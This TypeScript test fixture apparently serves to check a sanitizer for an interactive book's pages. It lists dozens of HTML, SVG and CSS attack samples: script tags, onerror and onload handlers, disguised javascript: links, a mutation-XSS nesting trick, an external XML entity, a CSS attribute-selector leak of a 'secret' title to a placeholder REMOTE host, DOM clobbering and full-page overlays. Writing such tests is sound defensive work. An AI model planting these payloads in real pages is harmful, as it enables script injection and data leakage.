// HTML, SVG and CSS that load, run, reach out or lie over the page, in every way that somebody has found.
// REMOTE and SITE stand for the two addresses.
const svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

type Markup = readonly [name: string, type: 'text/html' | 'image/svg+xml', text: string];

/** Blanks to JavaScript's patterns, and a part of the address to CSS and to an attribute. */
const blanks = [
  ...'\u{B}\u{85}\u{A0}\u{1680}\u{2000}\u{2001}\u{2002}\u{2003}\u{2004}\u{2005}\u{2006}\u{2007}\u{2008}\u{2009}\u{200A}\u{2028}\u{2029}\u{202F}\u{205F}\u{3000}\u{FEFF}',
  '\\A0 ',
  '/**/',
];
const properties = 'background border-image list-style-image cursor content mask filter'.split(' ');

/** Each would tell the host as much as there are blanks. */
const addressesOfBlanks = blanks.map((blank): Markup => {
  const url = `url(${blank}#x)`;
  const styles = properties.map((name) => `${name}: ${url}`).join('; ');
  return [
    `an address that begins with U+${blank.codePointAt(0)!.toString(16)}`,
    'text/html',
    `<style>b { ${styles} }</style><b style="${styles}">x</b><svg ${svg}><rect width="9" height="9" fill="${url}" mask="${url}" filter='url("${blank}#x")' clip-path="${url}" marker-end="${url}"/><image href="${blank}#x" width="9" height="9"/><image xlink:href="${blank}#x" width="9" height="9"/><filter id="f"><feImage href="${blank}#x"/></filter><rect width="9" height="9" filter="url(#f)"/></svg><img src="${blank}#x">`,
  ];
});

export const markup: readonly Markup[] = [
  ...addressesOfBlanks,
  [
    'an address of this place where a picture is wanted',
    'text/html',
    `<b style="${properties.map((name) => `${name}: url(#x)`).join('; ')}">x</b><svg ${svg}><image href="#x" width="9" height="9"/><image xlink:href="#x" width="9" height="9"/></svg>`,
  ],
  ['a picture', 'text/html', '<img src="REMOTEimage.png">'],
  ['a picture of the book’s site', 'text/html', '<img src="SITEprobe-image.png">'],
  ['a picture in several sizes', 'text/html', '<img srcset="REMOTEimage-2x.png 2x" sizes="1px">'],
  ['a lazy picture', 'text/html', '<img loading="eager" src="//REMOTE/lazy.png">'],
  [
    'a handler of a failed picture',
    'text/html',
    '<img src="data:image/png,x" onerror="window.planted = 1">',
  ],
  ['a script', 'text/html', '<script>window.planted = document.body.innerHTML</script>'],
  ['a script of another site', 'text/html', '<script src="REMOTEscript.js"></script>'],
  ['a style sheet', 'text/html', '<link rel="stylesheet" href="REMOTEsheet.css">'],
  ['a prefetch', 'text/html', '<link rel="prefetch" href="REMOTEprefetch">'],
  ['a preload', 'text/html', '<link rel="preload" as="image" href="REMOTEpreload.png">'],
  ['a module preload', 'text/html', '<link rel="modulepreload" href="REMOTEmodule.js">'],
  [
    'a preconnect',
    'text/html',
    '<link rel="preconnect" href="REMOTE"><link rel="dns-prefetch" href="REMOTE">',
  ],
  ['a refresh', 'text/html', '<meta http-equiv="refresh" content="0; url=REMOTErefresh">'],
  ['a frame', 'text/html', '<iframe src="REMOTEframe"></iframe>'],
  [
    'a frame with a document in it',
    'text/html',
    '<iframe srcdoc="<img src=REMOTEsrcdoc.png>"></iframe>',
  ],
  [
    'a form that sends itself',
    'text/html',
    '<form action="REMOTEform" id="sent"><button autofocus>Send</button></form>',
  ],
  ['a base address', 'text/html', '<base href="REMOTE"><img src="based.png">'],
  ['an object', 'text/html', '<object data="REMOTEobject"></object><embed src="REMOTEembed">'],
  [
    'a film',
    'text/html',
    '<video src="REMOTEfilm.mp4" poster="REMOTEposter.png" autoplay></video>',
  ],
  ['a sound', 'text/html', '<audio src="REMOTEsound.mp3" autoplay></audio>'],
  ['a background', 'text/html', '<table background="REMOTEtable.png"><tr><td>x</td></tr></table>'],
  ['a background in style', 'text/html', '<p style="background: url(REMOTEstyle.png)">x</p>'],
  [
    'a background in an escaped style',
    'text/html',
    '<p style="background: \\75rl(REMOTEescaped.png)">x</p>',
  ],
  [
    'an escape that ends with a line',
    'text/html',
    '<p style="background: \\75&#13;&#10;rl(SITEprobe-line.png)">x</p>',
  ],
  [
    'an address in escapes',
    'text/html',
    '<p style="background: url(\\20 #/../../probe-blank.png)">x</p>',
  ],
  [
    'an image-set',
    'text/html',
    '<p style="background: image-set(&quot;REMOTEset.png&quot; 1x)">x</p>',
  ],
  ['a cursor', 'text/html', '<p style="cursor: url(REMOTEcursor.cur), auto">x</p>'],
  [
    'a mark of a list',
    'text/html',
    '<ul style="list-style-image: url(REMOTElist.png)"><li>x</li></ul>',
  ],
  ['an import in a style', 'text/html', '<p>x</p><style>@import "REMOTEimport.css";</style>'],
  [
    'a font',
    'text/html',
    '<style>@font-face { font-family: F; src: url(REMOTEfont.woff2) } p { font-family: F }</style><p>x</p>',
  ],
  [
    'a sheet of the book’s site',
    'text/html',
    '<p>x</p><style>p { background: url("SITEprobe-sheet.png") }</style>',
  ],
  [
    'a sheet in an SVG with the line’s end in entities',
    'image/svg+xml',
    `<svg ${svg} width="9" height="9"><style>rect { mask: \\75&#13;&#10;rl(SITEprobe-mask.svg#m) }</style><rect width="9" height="9"/></svg>`,
  ],
  [
    'a sheet that reads an attribute',
    'text/html',
    '<style>a[title^="s"] { background: url(REMOTEattribute) }</style><a title="secret">x</a>',
  ],
  [
    'a link that runs',
    'text/html',
    '<a class="press" href="javascript:window.planted = 1">press</a>',
  ],
  [
    'a link that runs, in disguise',
    'text/html',
    '<a class="press" href="java&#10;script:window.planted = 1">press</a>',
  ],
  [
    'a link to a data: address',
    'text/html',
    '<a class="press" href="data:text/html,<script>1</script>">press</a>',
  ],
  ['a link that pings', 'text/html', '<a class="press" href="#" ping="REMOTEping">press</a>'],
  [
    'a link that downloads',
    'text/html',
    '<a class="press" href="data:text/plain,x" download="x">press</a>',
  ],
  ['a script in an SVG', 'image/svg+xml', `<svg ${svg}><script>window.planted = 1</script></svg>`],
  [
    'a handler of an SVG',
    'image/svg+xml',
    `<svg ${svg} onload="window.planted = 1"><animate onbegin="window.planted = 1" attributeName="x" dur="1s"/></svg>`,
  ],
  [
    'a picture in an SVG',
    'image/svg+xml',
    `<svg ${svg}><image href="REMOTEsvg-image.png" width="9" height="9"/></svg>`,
  ],
  [
    'a picture by xlink',
    'image/svg+xml',
    `<svg ${svg}><image xlink:href="SITEprobe-xlink.png" width="9" height="9"/></svg>`,
  ],
  ['a use of another file', 'image/svg+xml', `<svg ${svg}><use href="REMOTEuse.svg#x"/></svg>`],
  [
    'a filter of another file',
    'image/svg+xml',
    `<svg ${svg}><filter id="f"><feImage href="REMOTEfe.png"/></filter><rect filter="url(REMOTEfilter.svg#f)" width="9" height="9"/></svg>`,
  ],
  [
    'a paint of another file',
    'image/svg+xml',
    `<svg ${svg}><rect fill="url(REMOTEfill.svg#f)" width="9" height="9"/></svg>`,
  ],
  [
    'a set that makes a link',
    'image/svg+xml',
    `<svg ${svg}><a class="press"><set attributeName="href" to="javascript:window.planted = 1"/><text y="9">press</text></a></svg>`,
  ],
  [
    'HTML inside an SVG',
    'image/svg+xml',
    `<svg ${svg}><foreignObject><iframe src="REMOTEforeign"></iframe><img src="REMOTEforeign.png"></foreignObject></svg>`,
  ],
  [
    'an external entity',
    'image/svg+xml',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "REMOTEentity">]><svg ${svg}><text>&x;</text></svg>`,
  ],
  [
    'a sheet as an instruction',
    'image/svg+xml',
    `<?xml-stylesheet href="REMOTExml.css"?><svg ${svg}/>`,
  ],
  [
    'markup that is read twice',
    'text/html',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.planted=1&gt;">',
  ],
  [
    'a picture in a formula',
    'text/html',
    '<math><mglyph src="REMOTEglyph.png"/><mi href="javascript:window.planted=1">x</mi></math>',
  ],
  [
    'a template with a shadow',
    'text/html',
    '<div><template shadowrootmode="open"><img src="REMOTEshadow.png"></template></div>',
  ],
  [
    'a part that opens over the page',
    'text/html',
    '<div popover id="over" style="position: fixed; inset: 0">over</div><dialog open>over</dialog>',
  ],
  [
    'a part that lies over the page',
    'text/html',
    '<style>:host { position: fixed; inset: 0; z-index: 9999 }</style><div style="position: fixed; inset: 0; z-index: 9999">over</div>',
  ],
  [
    'names that clobber the page’s',
    'text/html',
    '<img name="body"><a id="currentScript"></a><p id="cell-saving" class="live-cell" data-cell="saving" data-cell-do="run">x</p>',
  ],
  [
    'a button of the book’s own kind',
    'text/html',
    '<button class="press cell-run" data-cell-do="run-all">press</button>',
  ],
  [
    'a part that asks for the keys',
    'text/html',
    '<p contenteditable autofocus tabindex="0" accesskey="a">x</p>',
  ],
  [
    'parts that speak over the page',
    'text/html',
    '<p role="alert">x</p><p role="IMG status">x</p><p aria-live="assertive" aria-atomic="true">x</p><output>x</output><p role="alertdialog" aria-modal="true">x</p><p role="application">x</p><svg role="log" aria-LIVE="polite"><text role="timer">x</text></svg><table role="marquee"><tr><td aria-busy="true">x</td></tr></table>',
  ],
];
